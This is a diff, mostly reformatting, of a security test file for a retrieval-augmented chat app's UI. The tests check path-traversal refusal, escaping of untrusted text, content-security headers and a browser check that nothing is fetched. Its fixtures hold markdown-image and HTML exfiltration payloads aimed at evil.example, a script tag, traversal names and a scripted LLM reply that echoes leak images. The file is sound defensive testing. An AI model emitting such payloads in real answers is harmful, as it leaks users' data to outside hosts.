@@ -20,7 +20,7 @@ from tests.rag.fakes import ScriptedLLM
 from ui.backend import Backend, sources_markdown
 
 EVIL = "https://evil.example/leak?q=secret"
-PLANTED = f"![x]({EVIL}) <img src=\"{EVIL}\"> [click]({EVIL}) <script>alert(1)</script> `tick"
+PLANTED = f'![x]({EVIL}) <img src="{EVIL}"> [click]({EVIL}) <script>alert(1)</script> `tick'
 ANSWER = "Mars is red because of iron oxide [1]"
 
 
@@ -42,6 +42,7 @@ def upload(tmp_path):
 
 # -- 1. the Documents tab writes only under STORE/uploads ---------------------------------------------------
 
+
 @pytest.mark.parametrize("name", ["ABSOLUTE", "..", "../..", "../../outside", "x/../../y", "x/y", "a\\..\\b"])
 def test_documents_tab_refuses_a_collection_name_that_leaves_the_store(ingested, tmp_path, upload, name):
     name = str(tmp_path / "outside") if name == "ABSOLUTE" else name
@@ -62,6 +63,7 @@ def test_documents_tab_refuses_a_collection_folder_that_links_out_of_the_store(i
 
 
 # -- 2. the Evaluate tab never merges a dataset into a collection it did not build ---------------------------
+
 
 def squad_file(folder: Path, stem: str) -> Path:
     path = folder / f"{stem}.json"
@@ -101,6 +103,7 @@ def test_evaluate_tab_reuses_its_own_collection_but_not_once_other_documents_joi
 
 # -- 3. untrusted text renders inert: no remote image, link or raw HTML --------------------------------------
 
+
 def rendered(markdown: str) -> str:
     """The HTML a CommonMark renderer (raw HTML allowed, as Gradio's is before sanitising) makes of `markdown`."""
     markdown_it = pytest.importorskip("markdown_it")
@@ -132,8 +135,11 @@ def planted(settings, tmp_path):
     """A collection whose one document plants images, a link and HTML in its title and text."""
     path = tmp_path / "planted" / f"mars {PLANTED[:40].replace('/', '_')}.jsonl"
     path.parent.mkdir()
-    path.write_text(json.dumps({"id": "mars", "title": f"Mars {PLANTED}",
-                                "text": f"Mars is red because of iron oxide. {PLANTED}"}) + "\n", encoding="utf-8")
+    path.write_text(
+        json.dumps({"id": "mars", "title": f"Mars {PLANTED}", "text": f"Mars is red because of iron oxide. {PLANTED}"})
+        + "\n",
+        encoding="utf-8",
+    )
     report = ingest([str(path)], settings, collection="planted", progress=False)
     assert not report.failed, report.failed
     return settings
@@ -163,9 +169,12 @@ def test_the_lead_keeps_its_bold_span_and_citation_over_planted_text(planted):
     from tests.rag.test_engine import PointingReader
 
     def leading(settings, name):
-        return Engine(open_retriever(settings, open_collection(settings, name), "bm25"),
-                      ScriptedLLM([f"It is iron oxide [1]. {PLANTED}"]), reader=PointingReader("iron oxide"),
-                      lead=True)
+        return Engine(
+            open_retriever(settings, open_collection(settings, name), "bm25"),
+            ScriptedLLM([f"It is iron oxide [1]. {PLANTED}"]),
+            reader=PointingReader("iron oxide"),
+            lead=True,
+        )
 
     chat, sources = list(Backend(planted, leading).respond("What makes Mars red?", [], "planted"))[-1]
     answer = chat[-1]["content"]
@@ -197,8 +206,14 @@ def test_sources_panel_escapes_a_short_answer_and_passage_fields():
 def test_the_escaping_functions_leave_nothing_live_and_are_stable_while_streaming():
     from rag.answer.presentation import escape_markdown, inert_markdown
 
-    hostile = [PLANTED, f"\\{PLANTED}", f"\\\\<img src=x> \\\\![a]({EVIL})", f"[r]: {EVIL}\n\n[r] ![r]",
-               f"<{EVIL}> www.evil.example HTTPS://evil.example", "`a\\`<b>c</b>"]
+    hostile = [
+        PLANTED,
+        f"\\{PLANTED}",
+        f"\\\\<img src=x> \\\\![a]({EVIL})",
+        f"[r]: {EVIL}\n\n[r] ![r]",
+        f"<{EVIL}> www.evil.example HTTPS://evil.example",
+        "`a\\`<b>c</b>",
+    ]
     for text in hostile:
         assert_inert(escape_markdown(text))
         assert_inert(inert_markdown(text))
@@ -221,6 +236,7 @@ def test_the_chat_sanitises_html_and_keeps_no_custom_tags(ingested):
 
 
 # -- 4. the page's headers forbid remote content -------------------------------------------------------------
+
 
 def test_the_ui_pages_carry_a_content_security_policy(ingested):
     from fastapi.testclient import TestClient
@@ -269,8 +285,9 @@ def evil_server():
 
 @pytest.mark.slow
 @pytest.mark.browser
-@pytest.mark.skipif(not (os.path.exists(CHROMIUM) and os.path.exists(DRIVER)),
-                    reason="needs Debian's chromium and chromium-driver")
+@pytest.mark.skipif(
+    not (os.path.exists(CHROMIUM) and os.path.exists(DRIVER)), reason="needs Debian's chromium and chromium-driver"
+)
 def test_in_a_browser_an_echoed_image_fetches_nothing_and_the_page_breaks_no_policy(planted, evil_server):
     from selenium import webdriver
     from selenium.webdriver.chrome.service import Service
@@ -285,7 +302,7 @@ def test_in_a_browser_an_echoed_image_fetches_nothing_and_the_page_breaks_no_pol
     from ui.engines import Engines
 
     evil, hits = evil_server
-    echo = f"Mars is red [1] ![leak]({evil}/md?q=secret) <img src=\"{evil}/html?q=secret\"> done"
+    echo = f'Mars is red [1] ![leak]({evil}/md?q=secret) <img src="{evil}/html?q=secret"> done'
 
     def echoing(settings, name):
         return Engine(open_retriever(settings, open_collection(settings, name), "bm25"), ScriptedLLM([echo]))
@@ -295,8 +312,15 @@ def test_in_a_browser_an_echoed_image_fetches_nothing_and_the_page_breaks_no_pol
     os.environ.setdefault("SE_OFFLINE", "true")
     options = webdriver.ChromeOptions()
     options.binary_location = CHROMIUM
-    for flag in ("--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
-                 "--disable-component-update", "--no-first-run", "--window-size=1280,900"):
+    for flag in (
+        "--headless",
+        "--no-sandbox",
+        "--disable-gpu",
+        "--disable-background-networking",
+        "--disable-component-update",
+        "--no-first-run",
+        "--window-size=1280,900",
+    ):
         options.add_argument(flag)
     options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
     with running(mount_ui(create_api(settings, engines=engines), settings, Backend(settings, engines=engines))) as url:
